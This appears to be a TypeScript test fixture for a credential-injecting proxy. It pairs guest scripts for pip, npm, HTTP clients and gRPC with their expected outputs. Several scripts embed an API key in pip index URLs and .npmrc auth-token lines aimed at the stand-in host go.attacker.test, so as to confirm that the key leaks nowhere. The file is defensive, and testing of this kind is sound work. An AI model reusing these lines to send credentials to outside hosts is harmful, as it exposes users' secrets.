/** Ports of the servers. */
export const serverPorts = {
  nginx: 8445,
  modern: 8446,
  grpc: 8447,
  plainGrpc: 8448,
  webSockets: 8449,
} as const;

const { nginx, modern, grpc, plainGrpc } = serverPorts;
/** Whoever has brought the key is answered here, */
const hello = `https://www.example.com:${nginx}/hello`;
/** and may not bring it here. */
const elsewhere = `https://go.attacker.test:${modern}`;
const grpcCalls =
  "one last\nmany xxxxx\nsum True\ntalk re: 0,re: 1,re: 2,re: 3\nRESOURCE_EXHAUSTED no more quota";

/** A program of the guest, and what it prints when one server has got the key and the other was not even asked. */
export interface LibraryRow {
  readonly name: string;
  readonly script: string;
  readonly prints: string;
}

export const libraryRows: readonly LibraryRow[] = [
  {
    name: "pip: an index with a password in its URL, and one of somebody else",
    script: `
      export PIP_INDEX_URL="https://user:$API_KEY@pypi.example.com:${nginx}/simple" PIP_EXTRA_INDEX_URL="https://user:$API_KEY@go.attacker.test:${modern}/simple"
      pip download -q --no-deps --no-cache-dir --retries 0 --disable-pip-version-check -d /tmp/pip small > /tmp/pip.log 2>&1; ls /tmp/pip`,
    prints: "small-1.0-py3-none-any.whl",
  },
  {
    name: "npm: a registry with a token, and one of somebody else for what it can do without",
    script: `
      export HOME=/tmp; mkdir /tmp/app; cd /tmp/app
      printf '%s\\n' '//registry.example.com:${nginx}/npm/:_authToken=\${API_KEY}' '//go.attacker.test:${modern}/:_authToken=\${API_KEY}' \\
        '@else:registry=${elsewhere}/' 'registry=https://registry.example.com:${nginx}/npm/' 'fetch-retries=0' > .npmrc
      echo '{"dependencies":{"small":"1.0.0"},"optionalDependencies":{"@else/thing":"1.0.0"}}' > package.json
      /node/node /npm/bin/npm-cli.js install --no-audit --no-fund --no-update-notifier > npm.log 2>&1; /node/node -p 'require("small")'`,
    prints: "small from npm",
  },
  {
    name: "httpx, HTTP/2",
    script: `python3 /tmp/python-clients.py httpx ${hello} ${hello} ${elsewhere}/`,
    prints: "HTTP/2 hello by HTTP/2.0\nHTTP/2 hello by HTTP/2.0\nfailed",
  },
  {
    name: "aiohttp",
    script: `python3 /tmp/python-clients.py aiohttp ${hello} ${hello} ${elsewhere}/`,
    prints: "hello by HTTP/1.1\nhello by HTTP/1.1\nfailed",
  },
  {
    name: "Go, HTTP/2",
    script: `go-get ${hello} ${elsewhere}/ ${hello} 2>/dev/null`,
    prints: "hello by HTTP/2.0\nhello by HTTP/2.0",
  },
  {
    name: "Java's HttpClient, HTTP/2",
    script: `java -XX:TieredStopAtLevel=1 -cp /usr/local/share/java JavaGet ${hello} ${elsewhere}/ ${hello}`,
    prints: "hello by HTTP/2.0\nfailed\nhello by HTTP/2.0",
  },
  {
    name: "gRPC: single calls and streams, by TLS; and to somebody else",
    script: `python3 /tmp/python-clients.py grpc tls,API_KEY,grpc.example.com:${grpc} tls,API_KEY,go.attacker.test:${modern}`,
    prints: `${grpcCalls}\nCANCELLED`,
  },
  {
    name: "gRPC without TLS: a key that needs no proof, one that does, and somebody else",
    script: `python3 /tmp/python-clients.py grpc tls,HEARD,grpc.example.com:${grpc} plain,PLAIN_KEY,plain.example.com:${plainGrpc} \\
      plain,API_KEY,plain.example.com:${plainGrpc} plain,PLAIN_KEY,go.attacker.test:${plainGrpc} tls,HEARD,grpc.example.com:${grpc} | tail -n +2`,
    prints: `${grpcCalls}\nUNAUTHENTICATED\nCANCELLED\n{"key": 5, "other": 1}`,
  },
];
